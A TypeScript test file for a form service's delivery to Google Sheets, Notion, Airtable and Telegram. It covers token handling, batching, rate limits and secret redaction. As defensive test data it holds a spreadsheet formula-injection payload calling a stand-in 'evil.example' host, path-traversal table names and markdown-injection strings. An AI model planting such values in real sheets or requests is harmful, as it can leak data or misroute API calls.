// C38: Google Sheets, Notion, Airtable and Telegram as targets of the delivery machinery, against a
// stand-in that checks what each real API checks (test/standin.ts): what each writes, its own auth
// (Google's token, kept and exchanged again), batches and pace, what it keeps out of the log;
// hostile values stay values. What every channel does alike (what an answer means, a redirect, how
// much of an answer is read, the secret never shown whole, the test message) is
// test/channels.test.ts's.
import { env } from 'cloudflare:workers';
import { eq } from 'drizzle-orm';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { auditLog, deliveryAttempts, targets } from '../schema/tables.ts';
import { airtableFields } from '../src/delivery/channels/airtable.ts';
import { forgetSheets, rowOf } from '../src/delivery/channels/google-sheets.ts';
import { CHANNELS } from '../src/delivery/channels/index.ts';
import { apiUrl } from '../src/delivery/outbound.ts';
import { within } from '../src/delivery/values.ts';
import { addIntegration, listIntegrations } from '../src/ops/integrations.ts';
import { updateProject } from '../src/ops/project-settings.ts';
import { database } from '../src/store/db.ts';
import { type DeliveryToSend, deliveryId } from '../src/store/deliveries.ts';
import { asTool, expectEnvelope, seedProject, storedRows, submit } from './helpers.ts';
import { api, ok, problem } from './manage/helpers.ts';
import { BROWSER_HEADERS, consume, consumeOutbox, deliveryRow, throughWidget } from './queue.ts';
import { knownAccount, type StandIn, standIn } from './standin.ts';

const db = database(env.DB);
let s: StandIn;

beforeEach(() => {
  s = standIn();
  forgetSheets();
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => s.handle(new Request(input, init)));
});
afterEach(() => {
  vi.restoreAllMocks();
});

const SPREADSHEET = '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms';
const BASE = 'appAbCdEfGhIjKlMn';

/** A project with one integration of `kind`, as the stand-in knows it. */
async function projectWith(kind: 'google-sheets' | 'notion' | 'airtable' | 'telegram') {
  const p = await seedProject();
  const body =
    kind === 'google-sheets'
      ? { kind, spreadsheetId: SPREADSHEET, sheet: 'Submissions', serviceAccount: await knownAccount(s) }
      : kind === 'notion'
        ? { kind, token: s.notionToken, databaseId: '0123456789abcdef0123456789abcdef' }
        : kind === 'airtable'
          ? { kind, token: s.airtableToken, baseId: BASE, table: 'Leads' }
          : { kind, botToken: s.telegramToken, chatId: s.telegramChat };
  const integration = await addIntegration(asTool(), p.projectId, body);
  return { ...p, integration };
}

/** Sends the values, writes the outbox, and attempts the integration's delivery once. */
async function sendAndDeliver(
  p: Awaited<ReturnType<typeof projectWith>>,
  values: Record<string, unknown>,
  attempts = 1,
) {
  const before = new Set((await storedRows(p.projectId)).map((r) => r.id));
  // As a person sends it, through the widget: this file is about the integrations, not spam (C39).
  await expectEnvelope(
    await submit({
      key: p.apiKey,
      json: await throughWidget(p.projectId, values),
      headers: BROWSER_HEADERS,
    }),
    201,
  );
  const row = (await storedRows(p.projectId)).find((r) => !before.has(r.id));
  if (row === undefined) throw new Error('not stored');
  const id = deliveryId(row.id, p.integration.integrationId);
  const result = await consume(id, attempts);
  return { id, row, result, delivery: await deliveryRow(id) };
}

const ENQUIRY = {
  name: 'Ada Lovelace',
  email: 'ada@example.com',
  phone: 2025550123,
  enquiry: true,
  message: 'Hello',
};

describe('C38: Google Sheets', () => {
  it('appends a header to an empty sheet, then one RAW row per submission, with one token for many rows', async () => {
    const p = await projectWith('google-sheets');
    const first = await sendAndDeliver(p, ENQUIRY);
    const second = await sendAndDeliver(p, { ...ENQUIRY, name: '=IMPORTXML("https://evil.example","//a")' });
    expect(first.delivery?.status).toBe('delivered');
    expect(second.delivery?.status).toBe('delivered');
    const rows = s.sheets.get(`${SPREADSHEET}/Submissions`) ?? [];
    expect(rows[0]).toEqual(['Received', 'Submission', 'name', 'email', 'phone', 'enquiry', 'message']);
    expect(rows[1]).toEqual([
      first.row.receivedAt,
      first.row.id,
      'Ada Lovelace',
      'ada@example.com',
      2025550123,
      true,
      'Hello',
    ]);
    // RAW: the formula is text, sent as it was typed.
    expect(rows[2]?.[2]).toBe('=IMPORTXML("https://evil.example","//a")');
    expect(rows).toHaveLength(3);
    expect(s.exchanges).toBe(1);
    expect(s.log.filter((l) => l.refused !== undefined)).toEqual([]);
  });

  it('two isolates that both found the sheet empty write one header, into row 1', async () => {
    const p = await projectWith('google-sheets');
    const first = await sendAndDeliver(p, ENQUIRY);
    // Another isolate, which read row 1 before the first wrote it.
    forgetSheets();
    s.force('sheets', { status: 200, body: { values: [] } });
    const second = await sendAndDeliver(p, ENQUIRY);
    const rows = s.sheets.get(`${SPREADSHEET}/Submissions`) ?? [];
    expect(rows.map((r) => r[1])).toEqual(['Submission', first.row.id, second.row.id]);
  });

  it('a token Google no longer takes is exchanged again, once; refused again, the target is disabled', async () => {
    const p = await projectWith('google-sheets');
    await sendAndDeliver(p, ENQUIRY);
    s.revokeTokens();
    const again = await sendAndDeliver(p, ENQUIRY);
    expect(again.delivery?.status).toBe('delivered');
    expect(s.exchanges).toBe(2);
    // A key Google does not know (removed from the account): the exchange is refused.
    s.accounts.clear();
    s.revokeTokens();
    const refused = await sendAndDeliver(p, ENQUIRY);
    expect(refused.delivery?.status).toBe('failed');
    const [target] = await db.select().from(targets).where(eq(targets.id, p.integration.integrationId));
    expect(target?.disabledReason).toBe('refused');
  });

  it("429 waits for Google's Retry-After, and the row is appended once later", async () => {
    const p = await projectWith('google-sheets');
    s.force(
      'sheets',
      { status: 200, body: { values: [] } },
      { status: 429, headers: { 'Retry-After': '61' } },
    );
    const first = await sendAndDeliver(p, ENQUIRY);
    expect(first.delivery?.status).toBe('pending');
    expect(first.result.delays).toEqual([61]);
    const later = await consume(first.id, 2);
    expect(later.explicitAcks).toHaveLength(1);
    expect((await deliveryRow(first.id))?.status).toBe('delivered');
    const rows = s.sheets.get(`${SPREADSHEET}/Submissions`) ?? [];
    expect(rows.filter((r) => r[1] === first.row.id)).toHaveLength(1);
  });

  it('a 10 KB value and emoji are written whole', async () => {
    const p = await projectWith('google-sheets');
    const message = `${'😀'.repeat(10)}${'x'.repeat(10_000)}`;
    const first = await sendAndDeliver(p, { ...ENQUIRY, message });
    expect(first.delivery?.status).toBe('delivered');
    const rows = s.sheets.get(`${SPREADSHEET}/Submissions`) ?? [];
    expect(rows.at(-1)?.at(-1)).toBe(message);
  });

  it('a 429 with no Retry-After waits a minute, as Google asks (the others: 30 s)', () => {
    expect(CHANNELS['google-sheets'].rules.quotaSeconds).toBe(60);
    for (const kind of ['notion', 'airtable', 'telegram'] as const)
      expect(CHANNELS[kind].rules.quotaSeconds).toBe(30);
  });
});

describe('C38: what the review found', () => {
  it("a token is kept by the account's key too: another key naming the same address never gets it", async () => {
    const p = await projectWith('google-sheets');
    await sendAndDeliver(p, ENQUIRY);
    expect(s.exchanges).toBe(1);
    // Another project names the same service account, with a key of its own Google never issued.
    const other = await seedProject();
    const forged = { ...(await knownAccount(s)), client_email: 'forms@stand-in.iam.gserviceaccount.com' };
    s.accounts.delete(forged.private_key_id);
    const integration = await addIntegration(asTool(), other.projectId, {
      kind: 'google-sheets',
      spreadsheetId: SPREADSHEET,
      sheet: 'Submissions',
      serviceAccount: forged,
    });
    const sent = await sendAndDeliver({ ...other, integration }, ENQUIRY);
    expect(sent.delivery?.status).toBe('failed');
    expect((await listIntegrations(asTool(), other.projectId))[0]?.disabledReason).toBe('refused');
    expect(s.sheets.get(`${SPREADSHEET}/Submissions`)?.filter((r) => r[1] === sent.row.id)).toEqual([]);
  });

  it('a refused integration enabled again sends what it missed with redeliver --failed', async () => {
    const p = await projectWith('notion');
    s.notionToken = 'ntn_rotated';
    const missed = await sendAndDeliver(p, ENQUIRY);
    expect(missed.delivery?.status).toBe('failed');
    s.notionToken = 'ntn_standin_notion_token_0001';
    await ok(
      await api('PATCH', `/projects/${p.projectId}/integrations/${p.integration.integrationId}`, {
        body: { enabled: true },
      }),
    );
    await ok(await api('POST', `/projects/${p.projectId}/deliveries/redeliver-failed`));
    expect((await deliveryRow(missed.id))?.status).toBe('delivered');
    expect(s.pages).toHaveLength(1);
  });

  it('an Airtable batch refused for one record is sent again record by record: the bad one fails alone', async () => {
    const p = await projectWith('airtable');
    s.airtableRefuses = (fields) => fields.name === 'Unconvertible';
    for (const name of ['Ada', 'Unconvertible', 'Grace']) {
      await expectEnvelope(await submit({ key: p.apiKey, json: { ...ENQUIRY, name } }), 201);
    }
    const rows = await storedRows(p.projectId);
    await consumeOutbox(rows.map((r) => r.id));
    const ids = rows.map((r) => deliveryId(r.id, p.integration.integrationId));
    await consume(ids[0] ?? '');
    const states = await Promise.all(ids.map(async (id) => (await deliveryRow(id))?.status));
    expect(states).toEqual(['delivered', 'failed', 'delivered']);
    expect(s.airtableRequests.flatMap((r) => r.records.map((x) => x.fields.name))).toEqual(['Grace', 'Ada']);
  });

  it("Notion's title is the project's first string field, empty when the submission has none", async () => {
    const p = await projectWith('notion');
    const sent = await sendAndDeliver(p, { email: 'ada@example.com', phone: 42 });
    expect(sent.delivery?.status).toBe('delivered');
    const properties = s.pages[0]?.properties as Record<string, unknown>;
    expect(properties.name).toEqual({ title: [] });
    expect(properties.phone).toEqual({ number: 42 });
  });

  it('a refusal never repeats a key sent as text; a token in an answer is never kept', async () => {
    const p = await seedProject();
    const message = await problem(
      await api('POST', `/projects/${p.projectId}/integrations`, {
        body: {
          kind: 'google-sheets',
          spreadsheetId: SPREADSHEET,
          serviceAccount: '{"private_key":"hunter2"}',
        },
      }),
      400,
    );
    expect(message).not.toContain('hunter2');
    const t = await projectWith('telegram');
    s.force('telegram', {
      status: 500,
      body: { description: `upstream: /bot${s.telegramToken}/sendMessage` },
    });
    const sent = await sendAndDeliver(t, ENQUIRY);
    expect(sent.delivery?.status).toBe('pending');
    const attempts = await db.select().from(deliveryAttempts).where(eq(deliveryAttempts.deliveryId, sent.id));
    expect(attempts[0]?.excerpt).toContain('upstream: /bot…/sendMessage');
    expect(JSON.stringify(attempts)).not.toContain(s.telegramToken);
  });
});

describe('C38: Notion', () => {
  it('a page in the database: the first string field its title, each field by name, texts within 2,000', async () => {
    const p = await projectWith('notion');
    // A link and a 10,000-letter word read as spam (C39): the filter is off for what this test sends.
    await updateProject(asTool(), p.projectId, { spamFilter: { mode: 'off' } });
    const long = `**bold** [link](https://evil.example) ${'y'.repeat(10_000)}`;
    const sent = await sendAndDeliver(p, { ...ENQUIRY, message: long });
    expect(sent.delivery?.status).toBe('delivered');
    const [page] = s.pages;
    expect(page?.parent).toEqual({ database_id: '0123456789abcdef0123456789abcdef' });
    const properties = page?.properties as Record<string, Record<string, unknown>>;
    expect(properties.name).toEqual({ title: [{ type: 'text', text: { content: 'Ada Lovelace' } }] });
    expect(properties.phone).toEqual({ number: 2025550123 });
    expect(properties.enquiry).toEqual({ checkbox: true });
    const message =
      ((properties.message?.rich_text ?? []) as { text: { content: string } }[])[0]?.text.content ?? '';
    expect(message).toHaveLength(2000);
    expect(message.startsWith('**bold** [link](https://evil.example)')).toBe(true);
  });
});

describe('C38: Airtable', () => {
  it('several waiting submissions go as one request of up to 10 records', async () => {
    const p = await projectWith('airtable');
    const ids: string[] = [];
    for (let i = 0; i < 12; i++) {
      await expectEnvelope(await submit({ key: p.apiKey, json: { ...ENQUIRY, name: `Visitor ${i}` } }), 201);
    }
    const rows = await storedRows(p.projectId);
    await consumeOutbox(rows.map((r) => r.id));
    for (const r of rows) ids.push(deliveryId(r.id, p.integration.integrationId));
    await consume(ids[0] ?? '');
    expect(s.airtableRequests).toHaveLength(1);
    expect(s.airtableRequests[0]?.records).toHaveLength(10);
    expect(s.airtableRequests[0]?.records[0]?.fields).toMatchObject({
      email: 'ada@example.com',
      phone: 2025550123,
      enquiry: true,
    });
    const states = await Promise.all(ids.map(async (id) => (await deliveryRow(id))?.status));
    expect(states.filter((x) => x === 'delivered')).toHaveLength(10);
    // The others' own messages: one more request, with the two left; the rest find theirs settled.
    for (const id of ids) await consume(id);
    expect(s.airtableRequests).toHaveLength(2);
    expect(s.airtableRequests[1]?.records).toHaveLength(2);
    expect(
      (await Promise.all(ids.map(async (id) => (await deliveryRow(id))?.status))).every(
        (x) => x === 'delivered',
      ),
    ).toBe(true);
    // Every delivery has its own attempt in the log.
    const attempts = await db.select().from(deliveryAttempts);
    for (const id of ids) expect(attempts.filter((a) => a.deliveryId === id)).toHaveLength(1);
  });

  it('keeps 5 requests a second per base from an isolate', async () => {
    const p = await projectWith('airtable');
    for (let i = 0; i < 4; i++) await sendAndDeliver(p, ENQUIRY);
    const at = s.airtableRequests.map((r) => r.at);
    expect(at).toHaveLength(4);
    expect((at[3] ?? 0) - (at[0] ?? 0)).toBeGreaterThanOrEqual(3 * 190);
  });
});

describe('C38: Telegram', () => {
  it('plain text to the chat (no parse_mode): markdown stays characters; cut to 4,096', async () => {
    const p = await projectWith('telegram');
    const sent = await sendAndDeliver(p, {
      ...ENQUIRY,
      name: '*bold* _it_ [x](tg://user?id=1) @everyone',
      message: 'z'.repeat(10_000),
    });
    expect(sent.delivery?.status).toBe('delivered');
    const [m] = s.messages;
    expect(m?.body.parse_mode).toBeUndefined();
    expect(m?.text).toContain('name: *bold* _it_ [x](tg://user?id=1) @everyone');
    expect(m?.text.length).toBeLessThanOrEqual(4096);
    expect(m?.text.endsWith('… (cut)')).toBe(true);
  });

  it('a revoked token: refused, and the token is never in the log', async () => {
    const p = await projectWith('telegram');
    const token = s.telegramToken;
    s.telegramToken = '987654321:AAanotherTokenAltogetherForTests000';
    const revoked = await sendAndDeliver(p, ENQUIRY);
    expect(revoked.delivery).toMatchObject({ status: 'failed', lastStatus: 401 });
    const attempts = await db.select().from(deliveryAttempts);
    expect(JSON.stringify(attempts)).not.toContain(token.split(':')[1]);
  });
});

describe('C38: the management API', () => {
  it("adds (201), lists a Google key by its id's last four and the account to share with, tests, removes; no key in the audit log", async () => {
    const p = await seedProject();
    const account = await knownAccount(s);
    const added = await ok<{ integration: { integrationId: string } }>(
      await api('POST', `/projects/${p.projectId}/integrations`, {
        body: {
          kind: 'google-sheets',
          spreadsheetId: SPREADSHEET,
          sheet: 'Submissions',
          serviceAccount: account,
        },
      }),
      201,
    );
    await ok(
      await api('POST', `/projects/${p.projectId}/integrations`, {
        body: { kind: 'telegram', botToken: s.telegramToken, chatId: s.telegramChat },
      }),
      201,
    );
    const listed = await ok<{ integrations: Record<string, unknown>[] }>(
      await api('GET', `/projects/${p.projectId}/integrations`),
    );
    expect(JSON.stringify(listed)).not.toContain('PRIVATE KEY');
    expect(listed.integrations[0]?.secret).toBe(`…${account.private_key_id.slice(-4)}`);
    expect(listed.integrations[0]?.serviceAccount).toBe(account.client_email);
    const tested = await ok<{ ok: boolean; status: number }>(
      await api('POST', `/projects/${p.projectId}/integrations/${added.integration.integrationId}/test`),
    );
    expect(tested).toMatchObject({ ok: true, status: 200 });
    expect((s.sheets.get(`${SPREADSHEET}/Submissions`) ?? []).at(-1)?.[2]).toBe(
      'A test from edge-forms: this can be deleted',
    );
    const audit = JSON.stringify(await db.select().from(auditLog).where(eq(auditLog.projectId, p.projectId)));
    expect(audit).toContain('integration.add');
    expect(audit).not.toContain('PRIVATE KEY');
    await ok(await api('DELETE', `/projects/${p.projectId}/integrations/${added.integration.integrationId}`));
    expect(await listIntegrations(asTool(), p.projectId)).toHaveLength(1);
  });

  it('refuses a bad body with a clear reason that never repeats the secret; an unknown kind', async () => {
    const p = await seedProject();
    const bad = [
      [{ kind: 'telegram', botToken: 'not-a-token-hunter2', chatId: '1' }, /botToken/],
      [{ kind: 'airtable', token: 'pat.hunter2', baseId: 'base', table: 'T' }, /baseId/],
      [{ kind: 'notion', token: 'ntn_hunter2', databaseId: 'x' }, /databaseId/],
      [
        { kind: 'google-sheets', spreadsheetId: SPREADSHEET, serviceAccount: { type: 'user' } },
        /service account/,
      ],
      [{ kind: 'zapier' }, /kind/],
      // A dot segment would be resolved by the URL: `…/v0/app…/..` posts to `…/v0/`.
      [
        { kind: 'airtable', token: 'pat.hunter2', baseId: 'appAAAAAAAAAAAAAA', table: '..' },
        /Member 'table'/,
      ],
      [
        { kind: 'airtable', token: 'pat.hunter2', baseId: 'appAAAAAAAAAAAAAA', table: ' . ' },
        /Member 'table'/,
      ],
    ] as const;
    for (const [body, reason] of bad) {
      const message = await problem(
        await api('POST', `/projects/${p.projectId}/integrations`, { body }),
        400,
      );
      expect(message).toMatch(reason);
      expect(message).not.toContain('hunter2');
    }
  });
});

describe('C38: each integration talks only to its own service', () => {
  it('INTEGRATIONS_API_BASE replaces scheme and host, keeping the path, only where local webhooks are allowed', async () => {
    expect(apiUrl('https://api.telegram.org/botX/sendMessage', 'http://127.0.0.1:9999')).toBe(
      'http://127.0.0.1:9999/botX/sendMessage',
    );
    const p = await projectWith('telegram');
    const local = {
      ...env,
      ALLOW_LOCAL_WEBHOOKS: 'true',
      INTEGRATIONS_API_BASE: 'http://127.0.0.1:9999',
    } as unknown as Env;
    const offLocal = {
      ...env,
      ALLOW_LOCAL_WEBHOOKS: 'false',
      INTEGRATIONS_API_BASE: 'http://127.0.0.1:9999',
    } as unknown as Env;
    await expectEnvelope(await submit({ key: p.apiKey, json: ENQUIRY }), 201);
    const [row] = await storedRows(p.projectId);
    await consumeOutbox([row?.id ?? ''], offLocal);
    await consume(deliveryId(row?.id ?? '', p.integration.integrationId), 1, offLocal);
    expect(s.log.at(-1)?.url.startsWith('https://api.telegram.org/bot')).toBe(true);
    await expectEnvelope(await submit({ key: p.apiKey, json: ENQUIRY }), 201);
    const second = (await storedRows(p.projectId)).find((r) => r.id !== row?.id);
    await consumeOutbox([second?.id ?? ''], local);
    await consume(deliveryId(second?.id ?? '', p.integration.integrationId), 1, local);
    expect(s.log.at(-1)?.url.startsWith('http://127.0.0.1:9999/bot')).toBe(true);
  });

  it('a file field is a link to the submission in the dashboard with PUBLIC_URL, else its name', () => {
    const d = {
      projectId: 'p_1',
      submissionId: 's 1',
      receivedAt: '2026-11-25T10:00:00.000Z',
      data: JSON.stringify({ name: 'Ada', cv: { name: 'cv.pdf', type: 'application/pdf', size: 10 } }),
      fieldSpecs: JSON.stringify([
        { name: 'name', type: 'string' },
        { name: 'cv', type: 'file' },
      ]),
    } as unknown as DeliveryToSend;
    expect(rowOf(d, 'https://forms.example').row).toEqual([
      '2026-11-25T10:00:00.000Z',
      's 1',
      'Ada',
      'https://forms.example/admin/#/p/p_1/inbox/s%201',
    ]);
    expect(rowOf(d, undefined).row.at(-1)).toBe('cv.pdf');
    expect(airtableFields(d, undefined)).toEqual({ name: 'Ada', cv: 'cv.pdf' });
  });

  it('within() never cuts an emoji in half', () => {
    expect(within('ab😀', 3)).toBe('ab');
    expect(within('ab😀', 4)).toBe('ab😀');
  });
});
